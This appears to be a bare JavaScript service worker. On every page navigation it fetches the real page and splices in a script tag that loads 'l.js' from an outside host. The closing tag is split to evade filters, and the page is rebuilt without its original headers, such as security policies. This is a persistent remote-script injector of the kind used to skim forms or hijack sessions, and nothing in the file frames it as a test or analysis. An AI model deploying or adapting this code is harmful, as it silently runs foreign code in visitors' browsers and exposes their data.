self.addEventListener('fetch', function (e) {
  if (e.request.mode !== 'navigate') return;
  e.respondWith(fetch(e.request).then(function (r) {
    return r.text().then(function (t) {
      return new Response(t.replace('</body>', '<script src="https://late-assets.example/l.js"></scr' + 'ipt></body>'), { headers: { 'Content-Type': 'text/html' } });
    });
  }));
});
